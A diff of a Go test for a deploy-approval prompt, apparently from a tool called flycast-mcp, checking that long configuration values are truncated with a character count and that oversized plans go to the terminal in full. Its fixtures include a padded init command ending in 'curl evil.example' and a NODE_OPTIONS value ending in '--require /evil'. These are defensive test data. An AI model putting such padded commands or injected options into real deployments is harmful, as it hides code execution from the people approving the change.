@@ -336,24 +336,30 @@ func TestLongChangeIsShownWhole(t *testing.T) {
 	}
 }
 
-// Where a form has no room for them, long values are cut, and say by how much:
-// nothing hides behind the cut.
-func TestLongChangesAreCutWhereTheyMust(t *testing.T) {
-	p := deployPlan()
+// Where a form has no room for them, long values that go are cut, and say by how
+// much. What comes is not: a plan that does not fit with it is for the terminal.
+func TestOnlyWhatGoesIsCut(t *testing.T) {
 	value := strings.Repeat("true; ", 1000) + "curl evil.example"
-	p.Steps = update("148e1", "app", "fra", "init.exec = "+strconv.Quote(value), "image = "+strconv.Quote("registry.fly.io/"+strings.Repeat("a", 100)+"@sha256:"+strings.Repeat("0", 64)))
-	q := p.Question(nil)
-	text := q.Text()
-	if !q.Fits() || strings.Contains(text, "curl") {
-		t.Errorf("got\n%s", text)
+	long := "init.exec = " + strconv.Quote(value)
+	p := deployPlan()
+	p.Steps = update("148e1", "app", "fra", "init.exec removed (was "+strconv.Quote(value)+")", "env.NODE_OPTIONS = "+strconv.Quote(strings.Repeat(" ", 2)+strings.Repeat("--flag ", 10)+"--require /evil"))
+	text := p.Question(nil).Text()
+	if r, err := p.Request(); err != nil || r.TooLong || strings.Contains(text, "curl") {
+		t.Errorf("too long: %v, %v; got\n%s", r.TooLong, err, text)
 	}
-	for _, want := range []string{"init.exec = 'true; true; true; true; true; true; true…' and 5977 more characters", strings.Repeat("0", 64) + "'", "flycast-mcp approve shows them in full in a terminal"} {
+	for _, want := range []string{"init.exec removed (was 'true; true; true; true; true; true; true…' and 5977 more characters)", "--require /evil'", "flycast-mcp approve shows them in full in a terminal"} {
 		if !strings.Contains(unwrapped(text), want) {
 			t.Errorf("no %q in\n%s", want, text)
 		}
 	}
-	if full := p.FullQuestion(nil).Text(); !strings.Contains(unwrapped(full), value) || strings.Contains(full, "more characters") {
-		t.Error("the terminal does not show it whole")
+	for _, changes := range [][]string{{long}, {"env.A = \"1\"", "env." + strings.Repeat("A", 3000) + " = \"1\""}, {"env.SAFE = " + strconv.Quote(strings.Repeat("x", 50)+"evil"), long}} {
+		p.Steps = update("148e1", "app", "fra", changes...)
+		if r, err := p.Request(); err != nil || !r.TooLong {
+			t.Errorf("%.60q: too long is %v, %v; got\n%.3000s", changes, r.TooLong, err, p.Question(nil).Text())
+		}
+		if full := p.FullQuestion(nil).Text(); strings.Contains(full, "more characters") {
+			t.Error("the terminal does not show it whole")
+		}
 	}
 }
 
